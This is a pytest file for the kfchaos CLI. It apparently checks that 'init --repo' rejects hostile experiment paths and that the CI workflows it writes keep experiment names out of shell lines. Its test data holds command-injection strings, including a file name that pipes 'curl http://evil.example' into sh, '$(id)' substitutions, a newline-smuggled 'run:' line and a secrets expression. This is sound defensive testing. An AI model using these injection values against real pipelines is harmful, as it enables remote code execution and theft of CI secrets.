"""`kfchaos init --repo` and the CI it writes (issue 46, class 3): an experiment's path, name and namespace never reach
a shell line. A hostile FILE is refused before anything is written; in the workflows that are written, every `run:`
and `script:` line reads the experiment only from a quoted environment variable, and no `run:` line holds a GitHub
`${{ }}` expression (GitHub pastes its value into the script before the shell reads it)."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from kfchaos.cli import main, teamrepo
from kfchaos.cli.cmd_init import DEMO_BASELINE_ENV, starter
from kfchaos.errors import KfchaosError

HOSTILE_FILES = [
    'experiments/a"; curl http://evil.example | sh; echo ".yaml',
    "experiments/$(id).yaml",
    "experiments/`id`.yaml",
    "experiments/a\n        run: curl evil.example.yaml",
    "experiments/${{ secrets.KFP_TOKEN }}.yaml",
    "experiments/a b.yaml",
    "experiments/it's.yaml",
    "experiments/-rf.yaml",
    "experiments/.hidden.yaml",
    "../elsewhere.yaml",
    "/tmp/elsewhere.yaml",
]
FILE = "experiments/zq-canary.yaml"
NAME = "zq-canary"
NAMESPACE = "zq-canary-ns"
# A variable a shell line reads (upper case: set by the workflow's env, GitLab's variables or the runner).
VARIABLE = re.compile(r"\$\{?[A-Z][A-Z0-9_]*\}?")


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv(DEMO_BASELINE_ENV, raising=False)
    return tmp_path


@pytest.mark.parametrize("file", HOSTILE_FILES)
def test_a_hostile_experiment_path_is_refused_before_anything_is_written(
    file: str, folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["init", "--repo", file]) == 3
    err = capsys.readouterr().err
    assert "init --repo: FILE: " in err and "is not a plain path inside this folder" in err
    assert "\n        run:" not in err  # the path is shown escaped, on one line
    assert list(folder.iterdir()) == []


@pytest.mark.parametrize(
    ("name", "namespace"), [('a"; id; echo "', "demo"), ("ok", "$(id)"), ("ok\n", "demo"), ("ok", "x" * 64)]
)
def test_the_templates_take_only_dns_labels_for_name_and_namespace(name: str, namespace: str) -> None:
    with pytest.raises(KfchaosError, match="is not a DNS label"):
        teamrepo.Starter(file=FILE, name=name, namespace=namespace)


def _shell_lines(workflow: dict[str, Any], gitlab: bool) -> list[str]:
    """Every script a CI file hands a shell: GitHub steps' `run:`, GitLab jobs' `script` and `before_script`."""
    if not gitlab:
        return [step["run"] for job in workflow["jobs"].values() for step in job["steps"] if "run" in step]
    scripts = []
    for job in workflow.values():
        if isinstance(job, dict):
            for key in ("before_script", "script", "after_script"):
                scripts += job.get(key, [])
    return scripts


def _unquoted_variables(script: str) -> list[str]:
    """Upper-case variables read outside double quotes (a value split into words and its globs expanded): a small
    scan of POSIX quoting, single quotes skipped, `$( )` opening a context of its own inside double quotes."""
    found = []
    for line in script.splitlines():
        if line.strip().startswith("#"):
            continue
        contexts = ["plain"]  # plain | double, nested by $( )
        i = 0
        while i < len(line):
            char, inside = line[i], contexts[-1]
            if line.startswith("$(", i):
                contexts.append("plain")
                i += 2
                continue
            match = VARIABLE.match(line, i)
            if match:
                if inside != "double":
                    found.append(f"{match.group(0)} in {line.strip()}")
                i = match.end()
                continue
            if char == "'" and inside == "plain":
                i = line.index("'", i + 1)
            elif char == '"':
                contexts[-1] = "plain" if inside == "double" else "double"
            elif char == ")" and inside == "plain" and len(contexts) > 1:
                contexts.pop()
            i += 1
    return found


def test_no_shell_line_of_the_written_ci_holds_an_experiments_string(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    experiment = folder / FILE
    experiment.parent.mkdir()
    experiment.write_text(starter(NAME).replace("namespace: demo", f"namespace: {NAMESPACE}"))  # kept by --repo
    assert main(["init", "--repo", FILE]) == 0, capsys.readouterr().err
    files = {
        ".github/workflows/kfchaos.yml": False,
        ".github/workflows/kfchaos-gate.yml": False,
        ".gitlab-ci.yml": True,
    }
    scripts = []
    for where, gitlab in files.items():
        document = yaml.safe_load((folder / where).read_text())
        scripts += _shell_lines(document, gitlab)
        if where != ".github/workflows/kfchaos.yml":  # the gate names the experiment, as an environment variable
            assert (document["variables"] if gitlab else document["env"])["EXPERIMENT"] == FILE
    assert len(scripts) > 10
    for script in scripts:
        assert "${{" not in script, script
        for value in (FILE, NAME, NAMESPACE):
            assert value not in script, (value, script)
        assert _unquoted_variables(script) == [], script
    assert f"pipeline: {NAME}" in (folder / "manifests" / "schedules.yaml").read_text()  # where it belongs: YAML


def _version_function() -> str:
    layout = teamrepo.files(teamrepo.Starter(file=FILE, name=NAME, namespace=NAMESPACE))
    gate = layout[".github/workflows/kfchaos-gate.yml"]
    steps = yaml.safe_load(gate)["jobs"]["history"]["steps"]
    script = next(step["run"] for step in steps if step.get("id") == "versions")
    return next(line.strip() for line in script.splitlines() if line.strip().startswith("version()"))


@pytest.mark.parametrize(
    ("version", "printed"),
    [("1.2.0", "1.2.0"), ("1.0.0\nnew=9.9.9", ""), ("1.0.0$(id)", ""), ("x" * 65, "")],
)
def test_a_planted_version_writes_nothing_to_the_steps_outputs(version: str, printed: str, tmp_path: Path) -> None:
    """The history job writes the pull request's metadata.version to $GITHUB_OUTPUT: a line break in it would write
    outputs of its own. The template's own `version` function, run by bash on a planted file."""
    experiment = tmp_path / "experiment.yaml"
    experiment.write_text(yaml.safe_dump({"metadata": {"name": NAME, "version": version}}))
    environment = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"}
    done = subprocess.run(
        ["bash", "-c", f'{_version_function()}\nversion < "$1"', "bash", str(experiment)],
        capture_output=True, text=True, timeout=60, env=environment, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert done.stdout == (f"{printed}\n" if printed else "")


def test_the_quoting_scan_finds_a_bare_variable() -> None:
    assert _unquoted_variables('kfchaos run $EXPERIMENT --target "$KFCHAOS_TARGET"') == [
        '$EXPERIMENT in kfchaos run $EXPERIMENT --target "$KFCHAOS_TARGET"'
    ]
    assert _unquoted_variables('echo "old=$(git show "origin/$REF:$EXPERIMENT" | v)" >> "$OUT"') == []
    assert _unquoted_variables('echo "$(ls $HOME)"') == ['$HOME in echo "$(ls $HOME)"']
    assert _unquoted_variables("python -c 'print($X)'  # $Y") != []  # a comment after code is still read
